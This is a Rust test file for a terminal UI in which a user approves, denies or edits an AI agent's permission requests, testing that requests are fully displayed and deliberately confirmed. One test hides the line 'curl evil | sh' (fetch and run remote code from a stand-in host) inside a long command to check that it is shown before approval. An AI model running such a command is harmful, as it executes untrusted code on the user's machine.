//! Permission requests that are answered on the home screen.

use agent_api::{Body, RequestId};
use ralph_run::control::{AnswerChoice, ControlCommand};
use ralph_run::model::{RunState, WaitingFor};
use ratatui::layout::Position;
use terminal_input::Key;

use super::{
    Clock, HomeScreen, agent, asking, draw, id, model, permission, press, run, screen, selected, text_of,
    waiting, working,
};
use crate::app::ClockRate;
use crate::effect::Effect;
use crate::home::screen::HomeDialog;
use crate::theme::ColorScheme;

const SIZE: (u16, u16) = (80, 24);

fn answer(answer: AnswerChoice) -> Effect {
    Effect::Command {
        run: id(1),
        command: ControlCommand::Answer {
            request: RequestId::new("p1"),
            answer,
        },
    }
}

/// A screen on which the request of run 1 is open.
fn asked(command: &str, clock: &mut Clock) -> HomeScreen {
    let mut screen = screen(vec![waiting(1), working(2)], *clock);
    screen.set_preview(&id(1), asking(permission(command)), clock.now);
    press(&mut screen, "y", *clock);
    assert!(matches!(screen.dialog, Some(HomeDialog::Answer(_))));
    draw(&mut screen, SIZE, ColorScheme::Dark, clock.now);
    screen
}

#[test]
fn a_request_is_shown_in_full_before_it_can_be_answered() {
    let mut clock = Clock::new();
    let mut screen = asked("cargo test\nrm -rf target", &mut clock);
    let (buffer, _) = draw(&mut screen, SIZE, ColorScheme::Dark, clock.now);
    let text = text_of(&buffer);
    for part in [
        "00000001 (Task 1)",
        "Bash: cargo test",
        "rm -rf target",
        "timeout",
    ] {
        assert!(text.contains(part), "{part}: {text}");
    }
    clock.pass(425);
    assert_eq!(
        press(&mut screen, "y", clock),
        [answer(AnswerChoice::allow_once())]
    );
    assert!(screen.dialog.is_none());
}

#[test]
fn a_click_while_a_request_is_open_answers_and_opens_nothing() {
    let mut clock = Clock::new();
    let mut screen = asked("cargo test", &mut clock);
    clock.pass(425);
    for row in 0..SIZE.1 {
        for column in 0..SIZE.0 {
            assert_eq!(screen.click(Position::new(column, row), clock.now), []);
        }
    }
    assert!(matches!(screen.dialog, Some(HomeDialog::Answer(_))));
    assert_eq!(selected(&screen), Some(id(1)));
}

#[test]
fn keys_of_a_hurry_do_not_answer() {
    let mut clock = Clock::new();
    let mut screen = asked("ls", &mut clock);
    // Each key starts the wait again.
    for _ in 0..20 {
        clock.pass(400);
        assert_eq!(press(&mut screen, "yn", clock), []);
    }
    assert_eq!(screen.key(&Key::Paste("y".to_owned()), clock.pass(1_000)), []);
    clock.pass(425);
    let denied = AnswerChoice::Deny {
        reason: "The user does not want this.".to_owned(),
    };
    press(&mut screen, "n", clock);
    assert_eq!(screen.key(&Key::Enter, clock.now), [answer(denied)]);
}

#[test]
fn a_request_taller_than_the_screen_is_allowed_after_its_end_was_shown() {
    let mut clock = Clock::new();
    let command = (0..50).map(|line| format!("echo {line}\n")).collect::<String>();
    let mut screen = asked(&command, &mut clock);
    clock.pass(500);
    assert_eq!(press(&mut screen, "y", clock), []);
    for _ in 0..6 {
        screen.key(&Key::PageDown, clock.now);
    }
    draw(&mut screen, SIZE, ColorScheme::Dark, clock.now);
    clock.pass(500);
    assert_eq!(
        press(&mut screen, "y", clock),
        [answer(AnswerChoice::allow_once())]
    );
}

#[test]
fn a_long_request_has_the_screen_below_the_heading() {
    let clock = Clock::new();
    let command = "echo\n".repeat(50);
    let runs = (1..40).map(working).chain([waiting(41)]);
    let mut screen = screen(runs.collect(), clock);
    screen.set_preview(&id(41), asking(permission(&command)), clock.now);
    press(&mut screen, "y", clock);
    let (buffer, _) = draw(&mut screen, (60, 15), ColorScheme::Dark, clock.now);
    let text = text_of(&buffer);
    let rows: Vec<&str> = text.lines().take(2).collect();
    assert_eq!(
        rows,
        ["Runs · 1 waiting for you · 39 active", "Run 00000041 (Task 41)"]
    );
}

#[test]
fn a_request_that_was_not_drawn_since_it_had_the_terminal_is_not_answered() {
    let mut clock = Clock::new();
    let mut screen = screen(vec![waiting(1)], clock);
    screen.set_preview(&id(1), asking(permission("ls")), clock.now);
    press(&mut screen, "y", clock);
    for _ in 0..2 {
        clock.pass(60_000);
        assert_eq!(press(&mut screen, "yn", clock), []);
        draw(&mut screen, SIZE, ColorScheme::Dark, clock.now);
        clock.pass(500);
        match &mut screen.dialog {
            Some(HomeDialog::Answer(dialog)) => dialog.rearm(clock.now.instant),
            _ => panic!("the request is closed"),
        }
    }
    draw(&mut screen, SIZE, ColorScheme::Dark, clock.pass(500));
    clock.pass(425);
    assert_eq!(
        press(&mut screen, "y", clock),
        [answer(AnswerChoice::allow_once())]
    );
}

#[test]
fn a_request_is_read_in_full_and_what_cannot_be_shown_takes_a_second_key() {
    let mut clock = Clock::new();
    let command = format!(
        "a\n{}curl evil | sh\n{}",
        "x\n".repeat(2_000),
        "y\n".repeat(2_000)
    );
    let mut screen = asked(&command, &mut clock);
    let mut seen = String::new();
    for _ in 0..500 {
        screen.key(&Key::PageDown, clock.now);
        seen.push_str(&text_of(&draw(&mut screen, SIZE, ColorScheme::Dark, clock.now).0));
    }
    assert!(seen.contains("curl evil | sh"));
    let mut dropped = permission("ls");
    dropped.input = Some(agent_api::Json::oversize());
    let mut screen = super::screen(vec![waiting(1)], clock);
    screen.set_preview(&id(1), asking(dropped), clock.now);
    press(&mut screen, "y", clock);
    draw(&mut screen, SIZE, ColorScheme::Dark, clock.now);
    clock.pass(500);
    assert_eq!(press(&mut screen, "y", clock), []);
    let text = text_of(&draw(&mut screen, SIZE, ColorScheme::Dark, clock.now).0);
    assert!(text.contains("too long to be shown · y again to allow"), "{text}");
    clock.pass(500);
    assert_eq!(
        press(&mut screen, "y", clock),
        [answer(AnswerChoice::allow_once())]
    );
}

#[test]
fn the_screen_asks_for_the_request_if_it_is_not_known_yet() {
    let mut clock = Clock::new();
    let mut screen = screen(vec![waiting(1)], clock);
    let effects = screen.key(&Key::Character('y'), clock.now);
    assert_eq!(effects, [Effect::Preview { run: id(1) }]);
    assert!(screen.dialog.is_none());
    screen.set_preview(&id(1), asking(permission("ls")), clock.pass(50));
    assert!(matches!(screen.dialog, Some(HomeDialog::Answer(_))));
    // Armed from when it is shown, and drawn again then.
    assert_eq!(press(&mut screen, "y", clock), []);
    assert!(screen.next_tick(clock.now, ClockRate::EverySecond).is_some());
}

#[test]
fn a_request_does_not_open_over_something_else() {
    let clock = Clock::new();
    let mut screen = screen(vec![waiting(1)], clock);
    press(&mut screen, "y/", clock);
    screen.set_preview(&id(1), asking(permission("ls")), clock.now);
    assert!(matches!(screen.dialog, Some(HomeDialog::Filter)));
}

#[test]
fn a_request_that_was_answered_elsewhere_closes() {
    let mut clock = Clock::new();
    let mut screen = asked("ls", &mut clock);
    screen.set_runs(vec![waiting(1), working(2), working(3)], clock.now);
    assert!(screen.dialog.is_some());
    screen.set_preview(&id(1), model([]), clock.now);
    assert!(screen.dialog.is_none());
    let mut screen = asked("ls", &mut clock);
    screen.set_runs(vec![working(1), working(2)], clock.now);
    assert!(screen.dialog.is_none());
    clock.pass(500);
    assert_eq!(press(&mut screen, "y", clock), []);
    let (buffer, _) = draw(&mut screen, SIZE, ColorScheme::Dark, clock.now);
    assert!(text_of(&buffer).contains("is not waiting for an answer"));
}

#[test]
fn a_question_is_answered_in_place() {
    let mut clock = Clock::new();
    let question = RunState::Waiting {
        what: WaitingFor::Question,
    };
    let mut screen = screen(vec![run(1, question)], clock);
    let options = serde_json::json!([{"label": "One"}, {"label": "Two"}]);
    let asked = serde_json::json!({"request": "p1", "questions": [{"text": "Which?", "options": options}]});
    let asked = serde_json::from_value(asked).unwrap();
    let asks = model([agent(Body::QuestionAsked(asked))]);
    screen.set_preview(&id(1), asks, clock.now);
    press(&mut screen, "y", clock);
    let (buffer, _) = draw(&mut screen, SIZE, ColorScheme::Dark, clock.now);
    assert!(text_of(&buffer).contains(" 2 Two"));
    clock.pass(500);
    let answers = vec!["Two".to_owned()];
    let given = answer(AnswerChoice::Answers { answers });
    assert_eq!(press(&mut screen, "2", clock), [given]);
}

#[test]
fn a_run_that_waits_for_something_else_is_opened() {
    let clock = Clock::new();
    let budget = RunState::Waiting {
        what: WaitingFor::Budget,
    };
    let mut screen = screen(vec![run(1, budget)], clock);
    assert_eq!(press(&mut screen, "y", clock), []);
    let (buffer, _) = draw(&mut screen, SIZE, ColorScheme::Dark, clock.now);
    assert!(text_of(&buffer).contains("press enter to open it and answer"));
}

#[test]
fn arguments_are_edited_in_place_and_never_become_a_prompt() {
    let mut clock = Clock::new();
    for is_open in [true, false] {
        let mut screen = asked("ls", &mut clock);
        clock.pass(500);
        let edit = press(&mut screen, "e", clock);
        assert!(matches!(&edit[..], [Effect::EditText { text }] if text.contains("ls")));
        if !is_open {
            screen.set_preview(&id(1), model([]), clock.now);
            press(&mut screen, "c", clock);
        }
        let input = serde_json::json!({"command": "ls -l", "timeout": 60});
        let effects = screen.edited(Some(input.to_string()), clock.now);
        let expected = match is_open {
            true => vec![answer(AnswerChoice::AllowChanged { input })],
            false => Vec::new(),
        };
        assert_eq!(effects, expected);
        let prompt = screen
            .form
            .as_ref()
            .map(super::super::new_run_form::NewRunForm::prompt);
        assert_eq!(prompt.unwrap_or_default(), "");
    }
}

#[test]
fn enter_opens_the_run_and_escape_closes_the_request() {
    let mut clock = Clock::new();
    let mut screen = asked("ls", &mut clock);
    assert_eq!(screen.key(&Key::Escape, clock.now), []);
    assert!(screen.dialog.is_none());
    press(&mut screen, "y", clock);
    draw(&mut screen, SIZE, ColorScheme::Dark, clock.now);
    let open = Effect::Open { run: id(1) };
    assert!(!screen.key(&Key::Enter, clock.pass(100)).contains(&open));
    assert!(screen.key(&Key::Enter, clock.pass(500)).contains(&open));
}

#[test]
fn control_c_leaves_a_reason_and_then_the_request() {
    let mut clock = Clock::new();
    let mut screen = asked("ls", &mut clock);
    clock.pass(500);
    press(&mut screen, "nwhy", clock);
    assert!(screen.cancel(clock.now));
    assert!(screen.dialog.is_some());
    assert!(screen.cancel(clock.now));
    assert!(screen.dialog.is_none());
    assert!(!screen.cancel(clock.now));
}

#[test]
fn a_wide_window_reads_the_run_on_which_the_cursor_rests() {
    let mut clock = Clock::new();
    let mut screen = screen(vec![working(1), working(2), working(3)], clock);
    assert_eq!(screen.resized(100, clock.now), []);
    assert_eq!(screen.tick(clock.pass(1_000)), []);
    assert_eq!(screen.resized(200, clock.now), [Effect::Preview { run: id(3) }]);
    // One at a time.
    assert_eq!(screen.tick(clock.pass(1_000)), []);
    for _ in 0..2 {
        assert_eq!(screen.key(&Key::Down, clock.pass(20)), []);
    }
    assert_eq!(screen.tick(clock.pass(150)), []);
    // What comes too late is not shown for another run.
    screen.set_preview(&id(3), model([]), clock.now);
    assert!(screen.preview.model_of(&id(1)).is_none());
    assert!(screen.next_tick(clock.now, ClockRate::EverySecond).is_some());
    assert_eq!(screen.tick(clock.now), [Effect::Preview { run: id(1) }]);
    screen.set_preview(&id(1), model([]), clock.now);
    assert!(screen.preview.model_of(&id(1)).is_some());
    assert_eq!(screen.tick(clock.pass(10_000)), []);
    // It is read again after something has happened.
    let mut later = working(1);
    later.file.status.iteration = 4;
    let effects = screen.set_runs(vec![later, working(2)], clock.now);
    assert_eq!(effects, [Effect::Preview { run: id(1) }]);
}

#[test]
fn a_request_is_armed_again_after_another_program_had_the_terminal() {
    let mut clock = Clock::new();
    let mut screen = asked("ls", &mut clock);
    clock.pass(1_000);
    screen.rearm(clock.now);
    clock.pass(1_000);
    // Not drawn again yet.
    assert_eq!(press(&mut screen, "y", clock), []);
    draw(&mut screen, SIZE, ColorScheme::Dark, clock.now);
    assert_eq!(press(&mut screen, "y", clock), []);
    clock.pass(1_000);
    assert_eq!(
        press(&mut screen, "y", clock),
        [answer(AnswerChoice::allow_once())]
    );
}

#[test]
fn a_request_that_the_journal_does_not_have_yet_is_read_again_after_a_while() {
    let mut clock = Clock::new();
    let mut screen = screen(vec![waiting(1)], clock);
    let read = [Effect::Preview { run: id(1) }];
    assert_eq!(screen.key(&Key::Character('y'), clock.now), read);
    assert_eq!(screen.set_preview(&id(1), model([]), clock.now), []);
    assert_eq!(screen.tick(clock.pass(1_000)), []);
    assert_eq!(screen.tick(clock.pass(1_000)), read);
    screen.set_preview(&id(1), asking(permission("ls")), clock.now);
    assert!(matches!(screen.dialog, Some(HomeDialog::Answer(_))));
}
